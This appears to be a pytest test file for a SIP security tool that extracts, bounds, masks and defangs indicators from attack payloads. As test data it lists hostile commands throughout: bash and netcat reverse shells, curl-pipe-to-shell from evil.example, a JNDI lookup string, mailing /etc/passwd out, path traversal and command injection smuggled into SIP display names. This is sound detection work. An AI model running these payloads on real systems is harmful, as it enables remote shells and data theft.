"""Indicators: what payloads point at, found, bounded, masked, and shown so that nobody clicks on it."""

from __future__ import annotations

import json
import sys
import time

import pytest

from harness import ROOT, as_documented, invite
from sipsieve.config import policy
from sipsieve.decision.engine import Engine
from sipsieve.decision.explain import NoCounters
from sipsieve.decision_log.privacy import Mask
from sipsieve.decision_log.record import Recorder
from sipsieve.detection import ruleset
from sipsieve.detection.indicators import MAX_INDICATORS, Indicator, in_payload, of_texts
from sipsieve.model import Source

sys.path.insert(0, str(ROOT / "analysis"))

from sipsieve_analysis.operate.lines import line_of
from sipsieve_analysis.operate.recorded import text_of_record

SOURCE = Source("192.0.2.1", 5060, "udp", "192.0.2.1")
RULES = ruleset.load()
ENGINE = Engine(policy.loads("[limits]\nenabled = false\n"), RULES)


def record_of(raw: bytes, mask: Mask | None = None) -> dict[str, object]:
    decision = ENGINE.decide(raw, SOURCE, 0.0, NoCounters())
    recorder = Recorder("0" * 12, "1" * 12, "enforce", 256, 0, mask)
    record: dict[str, object] = json.loads(recorder.decision(decision, raw, SOURCE, 1.5, "a-b-1"))
    as_documented(record)
    return record


@pytest.mark.parametrize(
    ("payload", "wanted"),
    [
        ("bash -i >& /dev/tcp/216.126.227.195:3456 0>&1", [("host-port", "216.126.227.195:3456")]),
        ("bash -i >& /dev/tcp/216.126.227.195/3456 0>&1", [("host-port", "216.126.227.195:3456")]),
        ("nc -e /bin/sh 198.51.100.7 4444", [("host-port", "198.51.100.7:4444"), ("file", "/bin/sh")]),
        ("ping -c 1 198.51.100.7", [("ip", "198.51.100.7")]),
        ("cat < /dev/tcp/evil.example/443", [("host-port", "evil.example:443")]),
        ("curl -s http://evil.example/x.sh|sh", [("url", "http://evil.example/x.sh"), ("domain", "evil.example")]),
        ("${jndi:ldap://[2001:db8::7]:389/a}", [("url", "ldap://[2001:db8::7]:389/a"), ("host-port", "[2001:db8::7]:389")]),
        ("`nslookup a1b2.evil.example`", [("domain", "a1b2.evil.example")]),
        ("; mail thief@evil.example < /etc/passwd", [("email", "thief@evil.example"), ("file", "/etc/passwd")]),
        ("../../../../etc/asterisk/sip.conf", [("file", "/etc/asterisk/sip.conf")]),
        ("..\\..\\C:\\windows\\win.ini", [("file", "C:\\windows\\win.ini")]),
        ("' or 1=1--", []),
        ("999.999.999.999:80 1.2.3.4.5", []),
        ("sip:alice@example.com", []),
    ],
)  # fmt: skip
def test_what_a_payload_points_at_is_found(payload: str, wanted: list[tuple[str, str]]) -> None:
    assert [(item.kind, item.value) for item in of_texts([payload])] == wanted


def test_the_record_names_them_and_not_the_message_s_own_hosts() -> None:
    name = "bash -i >& /dev/tcp/216.126.227.195/3456 0>&1"
    record = record_of(invite(from_=f'"{name}" <sip:a@example.com>;tag=1'))
    assert record["indicators"] == [{"type": "host-port", "value": "216.126.227.195:3456"}]


@pytest.mark.parametrize("raw", [invite(), invite(from_='"O\'Brien" <sip:a@example.com>;tag=1'), b"junk 192.0.2.7:80"])
def test_what_is_no_attack_has_none(raw: bytes) -> None:
    assert "indicators" not in record_of(raw)


def test_they_are_few_however_many_a_payload_names() -> None:
    named = of_texts([" ".join(f"198.51.100.{n}:80" for n in range(60))])
    assert len(named) == MAX_INDICATORS


@pytest.mark.parametrize(
    "text", ["a.", "1.", "1.1.1.1", "a@", "/etc/", "http://", "[::", "curl -x ", "a-", "ping a.b ", "c:\\"]
)
def test_the_time_is_bounded(text: str) -> None:
    """A whole value of such text; twenty times what was measured on a slow machine."""
    value = text * (4096 // len(text))
    begun = time.process_time()
    of_texts([value] * 16)
    assert time.process_time() - begun < 0.04


def test_masks_reach_them() -> None:
    name = "x';curl http://evil.example/ | mail 15551234567@evil.example #"
    record = record_of(invite(from_=f'"{name}" <sip:a@example.com>;tag=1'), Mask(b"0123456789abcdef", every_user=False))
    assert "15551234567" not in json.dumps(record["indicators"])
    assert "evil.example" in json.dumps(record["indicators"])


def test_a_digest_secret_is_no_indicator() -> None:
    name = "';curl http://evil.example/?response=deadbeef -- "
    record = record_of(invite(from_=f'"{name}" <sip:a@example.com>;tag=1'))
    assert record["indicators"]
    assert "deadbeef" not in json.dumps(record)


def test_people_see_them_defanged() -> None:
    name = "bash -i >& /dev/tcp/216.126.227.195:3456 0>&1; curl http://evil.example/a"
    record = record_of(invite(from_=f'"{name}" <sip:a@evil.invalid>;tag=1'))
    for shown in (line_of(record).plain, "\n".join(text_of_record(record, RULES))):
        assert "216[.]126[.]227[.]195:3456" in shown
        assert "hxxp://evil[.]example/a" in shown
        assert "216.126.227.195" not in shown


def test_all_kinds_but_files_are_defanged() -> None:
    assert Indicator("ip", "2001:db8::7").defanged == "2001[:]db8[:][:]7"
    assert Indicator("email", "a@b.example").defanged == "a[@]b[.]example"
    assert Indicator("file", "/etc/passwd").defanged == "/etc/passwd"
    assert in_payload("198.51.100.7 ") == [Indicator("ip", "198.51.100.7")]
